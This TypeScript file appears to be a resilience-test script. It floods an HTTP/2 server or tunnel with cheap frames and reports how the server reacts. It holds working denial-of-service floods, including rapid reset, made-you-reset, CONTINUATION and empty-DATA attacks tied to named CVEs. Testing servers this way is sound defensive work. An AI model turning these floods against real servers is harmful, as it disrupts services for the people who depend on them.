/**
 * Floods 15008 (from a peer whose certificate is good), or a service, with HTTP/2 frames that cost little to send and something
 * to receive. Prints how many frames it took until the server had enough, and how it said so.
 */
import { connect, type Socket } from 'node:net';
import {
  ErrorCode,
  errorCodeName,
  FrameDecoder,
  FrameFlag,
  FrameType,
  HpackEncoder,
  maxInt31,
  writeFrameHeader,
  writePing,
  writeRstStream,
  writeSettings,
  writeUint32,
  writeWindowUpdate,
  type FrameSink,
} from '@ambit/http';
import { ignoredFrames, settingsAck, writeFields, writeOpening } from './http2-frames.ts';
import { connectTls, finish, nameOfError, readOrder, type TunnelOrder } from './order.ts';

interface Order extends TunnelOrder {
  readonly kind: FloodKind;
  /** Of a tunnel that would be granted. */
  readonly authority: string;
  /** Instead of a CONNECT over TLS: an ordinary request, over TCP as it is. */
  readonly isPlain?: boolean;
  /** The flood ends unpunished after this many frames. */
  readonly maxFrames: number;
}

/** Writes one attack frame (or the few that belong together) at the offset; returns the offset after it. */
type Flood = (target: Uint8Array, offset: number, turn: number) => number;
type FloodKind = keyof typeof floods;

const ROUND_BYTES = 64 * 1024;
const PATIENCE_MS = 10_000;
const ROOM = Buffer.alloc(2 * 1024 * 1024);
const order = await readOrder<Order>();
const encoder = new HpackEncoder(0);

const floods = {
  /** Streams that are asked for and taken back at once (CVE-2023-44487). */
  'rapid-reset': (target, offset, turn) =>
    writeRstStream(target, connectRequest(target, offset, streamOf(turn)), streamOf(turn), ErrorCode.cancel),
  /** Streams that the server has to reset because of what we send on them (CVE-2025-8671). */
  'made-you-reset': (target, offset, turn) => {
    const at = writeFrameHeader(
      target,
      connectRequest(target, offset, streamOf(turn)),
      4,
      FrameType.windowUpdate,
      0,
      streamOf(turn),
    );
    return writeUint32(target, at, 0);
  },
  settings: (target, offset) => writeSettings(target, offset, [[1, 4096]]),
  ping: (target, offset) => writePing(target, offset, false, Buffer.alloc(8), 0),
  /** A header block that never ends (CVE-2024-27316). */
  continuation: (target, offset, turn) =>
    writeFrameHeader(target, turn === 0 ? openHeaders(target, offset) : offset, 0, FrameType.continuation, 0, 1),
  /** DATA that carries nothing (CVE-2019-9518). */
  'empty-data': (target, offset, turn) =>
    writeFrameHeader(target, turn === 0 ? connectRequest(target, offset, 1) : offset, 0, FrameType.data, 0, 1),
  /** Header lists above what the server said it takes. */
  'oversize-headers': (target, offset, turn) => connectRequest(target, offset, streamOf(turn), 80),
  /** More credit than a window can hold. */
  'window-overflow': (target, offset) => writeWindowUpdate(target, offset, 0, maxInt31),
  /** Frames of a type nobody knows. */
  'unknown-frames': (target, offset) => writeFrameHeader(target, offset, 0, 0xf0, 0, 0),
  /** A frame larger than the server allows. */
  'giant-frame': (target, offset) => writeFrameHeader(target, offset, 0xffffff, FrameType.data, 0, 1),
} satisfies Record<string, Flood>;

let framesSent = 0;
let goAway: string | undefined;
let error: string | undefined;
let resets = 0;
let startMs = performance.now();
const flood: Flood = floods[order.kind];
const socket: Socket = order.isPlain === true ? connect(order.port, order.host) : connectTls(order);
const decoder = new FrameDecoder('client', listener());

socket.on('error', (cause) => {
  error = nameOfError(cause);
});
socket.on('close', () => report(true));
socket.on('data', (chunk: Buffer) => {
  try {
    decoder.push(chunk, 0, chunk.length);
  } catch (cause) {
    error = String(cause);
    socket.destroy();
  }
});
socket.on(order.isPlain === true ? 'connect' : 'secureConnect', () => {
  startMs = performance.now();
  setTimeout(() => report(false), PATIENCE_MS);
  socket.write(Buffer.from(ROOM.subarray(0, writeOpening(ROOM))), round);
});

function round(): void {
  if (socket.destroyed || goAway !== undefined) return;
  let at = 0;
  while (at < ROUND_BYTES && framesSent < order.maxFrames) {
    at = flood(ROOM, at, framesSent);
    framesSent += 1;
  }
  // Between rounds the server's answer is read.
  if (at > 0) socket.write(Buffer.from(ROOM.subarray(0, at)), () => setImmediate(round));
}

function report(isClosed: boolean): void {
  finish({
    framesSent,
    isClosed,
    resets,
    ms: Math.round(performance.now() - startMs),
    ...(goAway === undefined ? {} : { goAway }),
    ...(error === undefined ? {} : { error }),
  });
}

function streamOf(turn: number): number {
  return 1 + 2 * turn;
}

function connectRequest(target: Uint8Array, offset: number, streamId: number, padding = 0): number {
  const fields: (readonly [string, string])[] = [
    [':method', order.isPlain === true ? 'GET' : 'CONNECT'],
    [':authority', order.authority],
  ];
  if (order.isPlain === true) fields.push([':scheme', 'http'], [':path', '/big?bytes=100000']);
  for (let index = 0; index < padding; index += 1) fields.push([`x-padding-${index}`, 'x'.repeat(1_000)]);
  return writeFields(encoder, target, offset, streamId, fields, false);
}

/** HEADERS without END_HEADERS. */
function openHeaders(target: Uint8Array, offset: number): number {
  const at = connectRequest(target, offset, 1);
  target[offset + 4] = (target[offset + 4] ?? 0) & ~FrameFlag.endHeaders;
  return at;
}

function listener(): FrameSink {
  return {
    ...ignoredFrames,
    onReset: () => {
      resets += 1;
    },
    onSettingsEnd: () => void socket.write(settingsAck),
    onGoAway: (_lastStreamId, code) => {
      goAway = errorCodeName(code);
    },
  };
}
